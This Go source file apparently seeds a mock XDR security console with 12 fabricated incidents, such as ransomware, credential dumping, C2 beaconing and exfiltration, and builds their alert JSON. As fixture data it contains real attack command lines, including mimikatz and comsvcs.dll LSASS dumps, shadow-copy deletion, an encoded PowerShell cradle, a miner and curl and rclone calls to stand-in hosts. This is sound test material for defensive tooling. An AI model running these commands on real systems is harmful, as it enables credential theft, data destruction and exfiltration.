package fake

import (
	"encoding/json"
	"fmt"
	"path"
	"slices"
	"strconv"
	"strings"
	"time"
)

// firstAlertID is the ID of the first seeded alert; the others follow.
const firstAlertID = 283830

// alert is one incident alert. It never changes.
type alert struct {
	id        int64
	detection int64
	source    string
	severity  string
	name      string
	category  string
	pcap      []byte // nil: no triggering packet
	json      json.RawMessage
}

type alertSpec struct {
	name, category, source, severity, action string
	host, user                               string
	after                                    time.Duration // detection time after the incident's creation
	desc                                     string
	process, cmdline, parent, signer         string // actor process path and command line, causality actor, signer ("" unsigned)
	file                                     string // action_file_path
	malicious                                bool   // verdict of the alert's files
	remoteIP, domain, country                string
	remotePort                               int
	tactic, technique                        string
	pcap                                     bool
}

type incidentSpec struct {
	id       string
	name     string
	created  time.Time
	modified time.Duration // after creation
	status   string
	assigned string
	starred  bool
	resolve  string
	alerts   []alertSpec
}

var actionPretty = map[string]string{
	"BLOCKED":  "Prevented (Blocked)",
	"DETECTED": "Detected",
	"REPORTED": "Detected (Reported)",
}

var agentOS = map[string]string{"windows": "Windows", "linux": "Linux", "macos": "macOS", "android": "Android"}

// baseName is the last element of a Windows or POSIX path.
func baseName(p string) string {
	return path.Base(strings.ReplaceAll(p, `\`, "/"))
}

func (sp alertSpec) build(id int64, in incidentSpec, e *endpoint) *alert {
	det := in.created.Add(sp.after)
	a := &alert{id: id, detection: ms(det), source: sp.source, severity: sp.severity, name: sp.name, category: sp.category}
	if sp.pcap {
		a.pcap = pcapFor(id, e.ips[0], sp.remoteIP, sp.remotePort)
	}
	m := map[string]any{
		"alert_id":                             strconv.FormatInt(id, 10),
		"detection_timestamp":                  a.detection,
		"source":                               sp.source,
		"severity":                             sp.severity,
		"name":                                 sp.name,
		"category":                             sp.category,
		"action":                               sp.action,
		"action_pretty":                        actionPretty[sp.action],
		"description":                          sp.desc,
		"host_ip":                              e.ips[0],
		"host_name":                            e.name,
		"endpoint_id":                          e.id,
		"user_name":                            nullable(sp.user),
		"event_type":                           "Process Execution",
		"event_id":                             hexDigest("event", strconv.FormatInt(id, 10))[:24],
		"external_id":                          hexDigest("external", strconv.FormatInt(id, 10))[:32],
		"matching_service_rule_id":             nil,
		"matching_status":                      "MATCHED",
		"end_match_attempt_ts":                 nil,
		"mitre_tactic_id_and_name":             sp.tactic,
		"mitre_technique_id_and_name":          sp.technique,
		"agent_version":                        e.version,
		"agent_device_domain":                  nullable(e.domain),
		"agent_fqdn":                           strings.ToLower(e.name) + map[bool]string{true: "." + e.domain, false: ""}[e.domain != ""],
		"agent_os_type":                        agentOS[e.platform],
		"mac":                                  e.macs[0],
		"alert_type":                           "Unclassified",
		"tags":                                 []string{"DS:PANW/" + strings.TrimPrefix(sp.source, "PAN ")},
		"malicious_urls":                       nil,
		"case_id":                              atoi(in.id),
		"actor_process_image_name":             nil,
		"actor_process_image_path":             nil,
		"actor_process_command_line":           nil,
		"actor_process_image_sha256":           nil,
		"actor_process_image_md5":              nil,
		"actor_process_signature_status":       "N/A",
		"actor_process_signature_vendor":       "N/A",
		"actor_process_instance_id":            nil,
		"actor_process_causality_id":           nil,
		"actor_process_os_pid":                 nil,
		"actor_thread_thread_id":               nil,
		"causality_actor_process_image_name":   nil,
		"causality_actor_process_command_line": nil,
		"action_file_path":                     nullable(sp.file),
		"action_file_md5":                      nil,
		"action_file_sha256":                   nil,
		"action_local_ip":                      nil,
		"action_local_port":                    nil,
		"action_remote_ip":                     nullable(sp.remoteIP),
		"action_remote_port":                   nil,
		"action_external_hostname":             nullable(sp.domain),
		"fw_app_id":                            nil,
		"is_whitelisted":                       "No",
		"starred":                              in.starred,
	}
	if sp.process != "" {
		img := baseName(sp.process)
		inst := hexDigest("instance", strconv.FormatInt(id, 10))
		m["actor_process_image_name"] = img
		m["actor_process_image_path"] = sp.process
		m["actor_process_command_line"] = sp.cmdline
		m["actor_process_image_sha256"] = fileSHA256(img)
		m["actor_process_image_md5"] = md5Hex(img)
		m["actor_process_instance_id"] = inst[:22]
		m["actor_process_causality_id"] = inst[22:44]
		m["actor_process_os_pid"] = 1000 + id%7919
		m["actor_thread_thread_id"] = 2000 + id%4801
		m["actor_process_signature_status"], m["actor_process_signature_vendor"] = "SIGNATURE_UNAVAILABLE", nil
		if sp.signer != "" {
			m["actor_process_signature_status"], m["actor_process_signature_vendor"] = "SIGNATURE_SIGNED", sp.signer
		}
		if sp.parent != "" {
			m["causality_actor_process_image_name"] = sp.parent
			m["causality_actor_process_command_line"] = sp.parent
		}
	}
	if sp.file != "" {
		m["action_file_md5"] = md5Hex(baseName(sp.file))
		m["action_file_sha256"] = fileSHA256(baseName(sp.file))
		m["event_type"] = "File Event"
	}
	if sp.remoteIP != "" {
		m["action_local_ip"] = e.ips[0]
		m["action_local_port"] = 49152 + int(id%16000)
		m["action_remote_port"] = sp.remotePort
		m["event_type"] = "Network Connections"
	}
	if sp.source == srcNGFW {
		m["fw_app_id"] = "ssl"
		if sp.remotePort != 443 {
			m["fw_app_id"] = "unknown-tcp"
		}
	}
	if strings.Contains(strings.ToLower(sp.category), "url") && sp.domain != "" {
		m["malicious_urls"] = []string{"https://" + sp.domain + "/"}
	}
	b, _ := json.Marshal(m)
	a.json = b
	return a
}

func atoi(s string) int {
	n, _ := strconv.Atoi(s)
	return n
}

// build makes the incident with its alerts (IDs from firstID) and the
// fields derived from them.
func (sp incidentSpec) build(endpoints map[string]*endpoint, firstID int64) *incident {
	in := &incident{
		id: sp.id, name: sp.name, status: sp.status, starred: sp.starred,
		created: ms(sp.created), modified: ms(sp.created.Add(sp.modified)),
		resolveComment: sp.resolve,
	}
	for _, u := range seedUsers {
		if u[0] == sp.assigned {
			in.assignedMail, in.assignedName = u[0], u[1]
		}
	}
	add := func(list []string, v string) []string {
		if v == "" || slices.Contains(list, v) {
			return list
		}
		return append(list, v)
	}
	files := map[string]map[string]any{}
	var fileOrder []string
	addFile := func(p string, process, malicious bool, signer string) {
		name := baseName(p)
		sha := fileSHA256(name)
		if f, ok := files[sha]; ok {
			f["alert_count"] = f["alert_count"].(int) + 1
			return
		}
		verdict, sig := "UNKNOWN", "SIGNATURE_UNAVAILABLE"
		switch {
		case malicious:
			verdict = "MALWARE"
			in.wildfire++
		case signer != "":
			verdict = "BENIGN"
		}
		if signer != "" {
			sig = "SIGNATURE_SIGNED"
		}
		files[sha] = map[string]any{
			"type": "HASH", "alert_count": 1, "is_manual": false, "is_malicious": malicious, "is_process": process,
			"file_name": name, "file_sha256": sha, "file_signature_status": sig,
			"file_signature_vendor_name": nullable(signer), "file_wildfire_verdict": verdict,
		}
		fileOrder = append(fileOrder, sha)
	}
	nets := map[string]map[string]any{}
	var netOrder []string
	sevRank := map[string]int{"low": 1, "medium": 2, "high": 3, "critical": 4}
	hostNames := []string{}
	for i, as := range sp.alerts {
		e := endpoints[endpointID(as.host)]
		a := as.build(firstID+int64(i), sp, e)
		in.alerts = append(in.alerts, a)
		if sevRank[as.severity] > sevRank[in.severity] {
			in.severity = as.severity
		}
		if !slices.Contains(hostNames, e.name) {
			hostNames = append(hostNames, e.name)
			in.hosts = append(in.hosts, strings.ToLower(e.name)+":"+e.id)
		}
		in.users = add(in.users, as.user)
		in.sources = add(in.sources, as.source)
		in.tactics = add(in.tactics, as.tactic)
		in.techniques = add(in.techniques, as.technique)
		in.categories = add(in.categories, as.category)
		if as.process != "" {
			addFile(as.process, true, as.malicious && as.file == "", as.signer)
		}
		if as.file != "" {
			addFile(as.file, false, as.malicious, "")
		}
		if as.remoteIP != "" || as.domain != "" {
			key := as.domain + "|" + as.remoteIP
			if n, ok := nets[key]; ok {
				n["alert_count"] = n["alert_count"].(int) + 1
				continue
			}
			typ := "IP"
			if as.domain != "" {
				typ = "DOMAIN"
			}
			nets[key] = map[string]any{
				"type": typ, "alert_count": 1, "is_manual": false,
				"network_domain": nullable(as.domain), "network_remote_ip": nullable(as.remoteIP),
				"network_remote_port": as.remotePort, "network_country": nullable(as.country),
			}
			netOrder = append(netOrder, key)
		}
	}
	for _, k := range fileOrder {
		in.files = append(in.files, files[k])
	}
	for _, k := range netOrder {
		in.network = append(in.network, nets[k])
	}
	if in.files == nil {
		in.files = []map[string]any{}
	}
	if in.network == nil {
		in.network = []map[string]any{}
	}
	in.description = describe(sp.alerts, in.sources, hostNames, in.users)
	return in
}

// describe writes an incident description the way the console does:
// "'<first alert>' along with N other alerts generated by <sources>
// detected on host <host> involving user <user>" [XSOAR].
func describe(alerts []alertSpec, sources, hosts, users []string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "'%s'", alerts[0].name)
	switch n := len(alerts) - 1; n {
	case 0:
	case 1:
		b.WriteString(" along with 1 other alert")
	default:
		fmt.Fprintf(&b, " along with %d other alerts", n)
	}
	fmt.Fprintf(&b, " generated by %s", joinAnd(sources))
	if len(hosts) == 1 {
		fmt.Fprintf(&b, " detected on host %s", hosts[0])
	} else {
		fmt.Fprintf(&b, " detected on %d hosts", len(hosts))
	}
	switch len(users) {
	case 0:
	case 1:
		fmt.Fprintf(&b, " involving user %s", users[0])
	default:
		fmt.Fprintf(&b, " involving %d users", len(users))
	}
	return b.String()
}

// joinAnd joins items as "a", "a and b" or "a, b and c".
func joinAnd(items []string) string {
	if len(items) < 2 {
		return strings.Join(items, "")
	}
	return strings.Join(items[:len(items)-1], ", ") + " and " + items[len(items)-1]
}

const (
	msSigner     = "Microsoft Corporation"
	srcNGFW      = "PAN NGFW"
	srcAgent     = "XDR Agent"
	srcAnalytics = "XDR Analytics"
	srcBIOC      = "XDR BIOC"
	srcIOC       = "XDR IOC"
)

// seedIncidents are the tenant's 12 incidents, created between 1 and 20
// November 2026.
var seedIncidents = []incidentSpec{
	{id: "2901", name: "Malware blocked on finance workstation", created: nov(1, 8, 14, 5), modified: 2 * time.Minute, status: "new",
		alerts: []alertSpec{
			{name: "Local Analysis Malware", category: "Malware", source: srcAgent, severity: "high", action: "BLOCKED", host: "WS-FIN-0142", user: `acme\m.chen`,
				desc: "Suspicious executable detected", process: `C:\Users\m.chen\Downloads\invoice_2026.pdf.exe`, cmdline: `"C:\Users\m.chen\Downloads\invoice_2026.pdf.exe"`,
				parent: "explorer.exe", malicious: true, tactic: "TA0002 - Execution", technique: "T1204.002 - User Execution: Malicious File"},
			{name: "Suspicious Process Creation", category: "Execution", source: srcBIOC, severity: "medium", action: "DETECTED", host: "WS-FIN-0142", user: `acme\m.chen`, after: 40 * time.Second,
				desc: "invoice_2026.pdf.exe reached out to a newly registered domain", process: `C:\Users\m.chen\Downloads\invoice_2026.pdf.exe`, cmdline: `"C:\Users\m.chen\Downloads\invoice_2026.pdf.exe" /silent`,
				parent: "explorer.exe", remoteIP: "198.51.100.23", remotePort: 443, domain: "invoice-portal.example", country: "NL",
				tactic: "TA0011 - Command and Control", technique: "T1071.001 - Application Layer Protocol: Web Protocols"},
		}},
	{id: "2902", name: "Credential dumping on domain controller", created: nov(2, 22, 41, 17), modified: 26 * time.Hour, status: "under_investigation", assigned: "jane.doe@example.com",
		alerts: []alertSpec{
			{name: "Credential Dumping via LSASS Access", category: "Credential Access", source: srcAgent, severity: "critical", action: "BLOCKED", host: "SRV-DC-01", user: `acme\svc-backup`,
				desc: "A process tried to read the memory of lsass.exe", process: `C:\ProgramData\tmp\mimikatz.exe`, cmdline: `mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
				parent: "cmd.exe", malicious: true, tactic: "TA0006 - Credential Access", technique: "T1003.001 - OS Credential Dumping: LSASS Memory"},
			{name: "Remote Service Creation via PsExec", category: "Lateral Movement", source: srcBIOC, severity: "high", action: "DETECTED", host: "WS-IT-0450", user: `acme\adm-t.nguyen`, after: -25 * time.Minute,
				desc: "PsExec created a service on a remote host", process: `C:\Tools\PsExec64.exe`, cmdline: `PsExec64.exe \\SRV-DC-01 -s cmd.exe`, signer: msSigner,
				parent: "powershell.exe", remoteIP: "10.10.0.10", remotePort: 445, tactic: "TA0008 - Lateral Movement", technique: "T1021.002 - Remote Services: SMB/Windows Admin Shares"},
			{name: "Suspicious LSASS Dump File", category: "Credential Access", source: srcAnalytics, severity: "high", action: "DETECTED", host: "SRV-DC-01", user: `acme\svc-backup`, after: 3 * time.Minute,
				desc: "A minidump of lsass.exe was written to disk", process: `C:\Windows\System32\rundll32.exe`, cmdline: `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\ProgramData\tmp\ls.dmp full`,
				signer: msSigner, parent: "cmd.exe", file: `C:\ProgramData\tmp\ls.dmp`, tactic: "TA0006 - Credential Access", technique: "T1003.001 - OS Credential Dumping: LSASS Memory"},
		}},
	{id: "2903", name: "Port scan from web server", created: nov(4, 3, 12, 44), modified: 10 * time.Minute, status: "new",
		alerts: []alertSpec{
			{name: "Port Scan", category: "Reconnaissance", source: srcNGFW, severity: "medium", action: "DETECTED", host: "web-prod-01",
				desc: "Host scanned 1,024 ports on 172.16.20.21", remoteIP: "172.16.20.21", remotePort: 5432, pcap: true,
				tactic: "TA0007 - Discovery", technique: "T1046 - Network Service Discovery"},
			{name: "Port Scan", category: "Reconnaissance", source: srcNGFW, severity: "medium", action: "DETECTED", host: "web-prod-01", after: 4 * time.Minute,
				desc: "Host scanned 512 ports on 172.16.0.5", remoteIP: "172.16.0.5", remotePort: 22, pcap: true,
				tactic: "TA0007 - Discovery", technique: "T1046 - Network Service Discovery"},
		}},
	{id: "2904", name: "Phishing link opened", created: nov(5, 14, 3, 10), modified: 50 * time.Hour, status: "resolved_true_positive", assigned: "sam.lee@example.com",
		resolve: "Password reset; the URL is blocked at the proxy.",
		alerts: []alertSpec{
			{name: "Connection to a phishing URL", category: "Malicious URL", source: srcIOC, severity: "medium", action: "REPORTED", host: "WS-SALES-0024", user: `acme\l.garcia`,
				desc: "msedge.exe connected to a URL on the IOC list", process: `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, cmdline: `msedge.exe https://payroll-update.example/login`,
				signer: msSigner, remoteIP: "203.0.113.77", remotePort: 443, domain: "payroll-update.example", country: "US",
				tactic: "TA0001 - Initial Access", technique: "T1566.002 - Phishing: Spearphishing Link"},
		}},
	{id: "2905", name: "Ransomware behaviour on file server", created: nov(7, 1, 55, 30), modified: 30 * time.Hour, status: "under_investigation", assigned: "priya.patel@example.com", starred: true,
		alerts: []alertSpec{
			{name: "Behavioral Threat", category: "Ransomware", source: srcAgent, severity: "critical", action: "BLOCKED", host: "SRV-FILE-02", user: `acme\svc-backup`,
				desc: "Mass file encryption behaviour was blocked", process: `C:\Users\Public\svchost.exe`, cmdline: `C:\Users\Public\svchost.exe -enc D:\Shares`,
				parent: "services.exe", malicious: true, tactic: "TA0040 - Impact", technique: "T1486 - Data Encrypted for Impact"},
			{name: "Shadow Copy Deletion", category: "Impact", source: srcBIOC, severity: "high", action: "DETECTED", host: "SRV-FILE-02", user: `acme\svc-backup`, after: -2 * time.Minute,
				desc: "vssadmin deleted the volume shadow copies", process: `C:\Windows\System32\vssadmin.exe`, cmdline: `vssadmin.exe delete shadows /all /quiet`,
				signer: msSigner, parent: "cmd.exe", tactic: "TA0040 - Impact", technique: "T1490 - Inhibit System Recovery"},
			{name: "Mass File Rename", category: "Ransomware", source: srcAnalytics, severity: "high", action: "DETECTED", host: "WS-ENG-0311", user: `acme\d.novak`, after: 6 * time.Minute,
				desc: "Over 400 files on a mapped share were renamed with the .lck extension", process: `C:\Windows\explorer.exe`, cmdline: `C:\Windows\explorer.exe`,
				signer: msSigner, file: `Z:\Projects\roadmap.xlsx.lck`, tactic: "TA0040 - Impact", technique: "T1486 - Data Encrypted for Impact"},
			{name: "Suspicious SMB Traffic", category: "Lateral Movement", source: srcNGFW, severity: "medium", action: "DETECTED", host: "WS-ENG-0311", after: 7 * time.Minute,
				desc: "Unusual SMB write volume to the file server", remoteIP: "10.10.0.20", remotePort: 445,
				tactic: "TA0008 - Lateral Movement", technique: "T1021.002 - Remote Services: SMB/Windows Admin Shares"},
		}},
	{id: "2906", name: "Coin miner on build server", created: nov(8, 11, 20, 0), modified: 20 * time.Hour, status: "resolved_threat_handled", assigned: "soc-lead@example.com",
		resolve: "Compromised build plugin removed; host rebuilt.",
		alerts: []alertSpec{
			{name: "Cryptominer Execution", category: "Malware", source: srcAgent, severity: "high", action: "BLOCKED", host: "build-ci-07", user: "jenkins",
				desc: "XMRig miner started from /tmp", process: "/tmp/.x/xmrig", cmdline: "/tmp/.x/xmrig -o pool.mining.example:3333 --donate-level 1",
				parent: "java", malicious: true, remoteIP: "192.0.2.55", remotePort: 3333, domain: "pool.mining.example", country: "DE",
				tactic: "TA0040 - Impact", technique: "T1496 - Resource Hijacking"},
		}},
	{id: "2907", name: "Encoded PowerShell on HR workstation", created: nov(10, 9, 45, 12), modified: 4 * time.Hour, status: "under_investigation", assigned: "jane.doe@example.com",
		alerts: []alertSpec{
			{name: "Suspicious PowerShell Command Line", category: "Execution", source: srcBIOC, severity: "high", action: "DETECTED", host: "WS-HR-0087", user: `acme\r.okafor`,
				desc: "PowerShell ran a base64-encoded command downloaded from the internet", process: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				cmdline: `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, signer: msSigner,
				parent: "winword.exe", remoteIP: "198.51.100.90", remotePort: 443, domain: "cdn-updates.example.net", country: "RU",
				tactic: "TA0002 - Execution", technique: "T1059.001 - Command and Scripting Interpreter: PowerShell"},
			{name: "Office Process Spawned a Script Interpreter", category: "Execution", source: srcAgent, severity: "medium", action: "DETECTED", host: "WS-HR-0087", user: `acme\r.okafor`, after: -10 * time.Second,
				desc: "winword.exe started powershell.exe", process: `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, cmdline: `WINWORD.EXE /n "C:\Users\r.okafor\Downloads\CV_candidate.docm"`,
				signer: msSigner, file: `C:\Users\r.okafor\Downloads\CV_candidate.docm`, malicious: true,
				tactic: "TA0001 - Initial Access", technique: "T1566.001 - Phishing: Spearphishing Attachment"},
		}},
	{id: "2908", name: "Unusual SSH login to bastion", created: nov(12, 6, 30, 55), modified: 5 * time.Minute, status: "new",
		alerts: []alertSpec{
			{name: "SSH Login From an Unusual Country", category: "Credential Access", source: srcAnalytics, severity: "low", action: "DETECTED", host: "jump-01", user: "ubuntu",
				desc: "First SSH login to this host from this country", process: "/usr/sbin/sshd", cmdline: "sshd: ubuntu [priv]",
				remoteIP: "203.0.113.200", remotePort: 22, country: "BR", tactic: "TA0001 - Initial Access", technique: "T1078 - Valid Accounts"},
		}},
	{id: "2909", name: "Macro document on designer laptop", created: nov(13, 16, 10, 40), modified: 3 * time.Hour, status: "resolved_false_positive", assigned: "sam.lee@example.com",
		resolve: "Signed internal template; added to the allow list.",
		alerts: []alertSpec{
			{name: "Suspicious Macro Execution", category: "Execution", source: srcAgent, severity: "medium", action: "REPORTED", host: "MBP-DESIGN-017", user: "j.martin",
				desc: "A Word macro started a shell", process: "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word", cmdline: "Microsoft Word -psn_0_1234",
				signer: msSigner, file: "/Users/j.martin/Documents/brand-template.dotm", tactic: "TA0002 - Execution", technique: "T1059.002 - Command and Scripting Interpreter: AppleScript"},
		}},
	{id: "2910", name: "Sideloaded app on sales phone", created: nov(15, 12, 0, 0), modified: 26 * time.Hour, status: "resolved_other", assigned: "priya.patel@example.com",
		resolve: "App removed by the user.",
		alerts: []alertSpec{
			{name: "Suspicious APK Installed", category: "Malware", source: srcAgent, severity: "low", action: "REPORTED", host: "AND-SALES-031", user: "l.garcia",
				desc: "An app from an unknown source requested accessibility permissions", file: "/sdcard/Download/fast-vpn-pro.apk", malicious: true,
				tactic: "TA0027 - Initial Access", technique: "T1476 - Deliver Malicious App via Other Means"},
		}},
	{id: "2911", name: "Command-and-control beacon from web server", created: nov(17, 19, 25, 33), modified: 15 * time.Minute, status: "new",
		alerts: []alertSpec{
			{name: "Command and Control Traffic", category: "Command and Control", source: srcNGFW, severity: "high", action: "DETECTED", host: "web-prod-02",
				desc: "Traffic matched a Cobalt Strike beacon signature", remoteIP: "192.0.2.10", remotePort: 443, domain: "static-cdn.example.org", country: "SG", pcap: true,
				tactic: "TA0011 - Command and Control", technique: "T1071.001 - Application Layer Protocol: Web Protocols"},
			{name: "Periodic Beaconing", category: "Command and Control", source: srcAnalytics, severity: "medium", action: "DETECTED", host: "web-prod-02", user: "www-data", after: 15 * time.Minute,
				desc: "A process contacted the same host every 60 seconds", process: "/usr/bin/curl", cmdline: "curl -s https://static-cdn.example.org/jquery.min.js",
				remoteIP: "192.0.2.10", remotePort: 443, domain: "static-cdn.example.org", country: "SG",
				tactic: "TA0011 - Command and Control", technique: "T1071.001 - Application Layer Protocol: Web Protocols"},
		}},
	{id: "2912", name: "Large upload to cloud storage from executive workstation", created: nov(19, 23, 5, 8), modified: 90 * time.Minute, status: "under_investigation", assigned: "soc-lead@example.com", starred: true,
		alerts: []alertSpec{
			{name: "Large Upload (HTTPS)", category: "Exfiltration", source: srcAnalytics, severity: "high", action: "DETECTED", host: "WS-EXEC-0003", user: `acme\k.wright`,
				desc: "4.2 GB uploaded to a personal cloud storage domain", process: `C:\Users\k.wright\AppData\Local\rclone\rclone.exe`, cmdline: `rclone.exe copy C:\Users\k.wright\Documents remote:backup`,
				remoteIP: "203.0.113.150", remotePort: 443, domain: "files.storage.example", country: "US",
				tactic: "TA0010 - Exfiltration", technique: "T1567.002 - Exfiltration Over Web Service: Exfiltration to Cloud Storage"},
			{name: "Archive Created Before Upload", category: "Collection", source: srcBIOC, severity: "medium", action: "DETECTED", host: "WS-EXEC-0003", user: `acme\k.wright`, after: -20 * time.Minute,
				desc: "7-Zip compressed the Documents folder", process: `C:\Program Files\7-Zip\7z.exe`, cmdline: `7z.exe a -p C:\Users\k.wright\docs.7z C:\Users\k.wright\Documents`,
				file: `C:\Users\k.wright\docs.7z`, tactic: "TA0009 - Collection", technique: "T1560.001 - Archive Collected Data: Archive via Utility"},
		}},
}
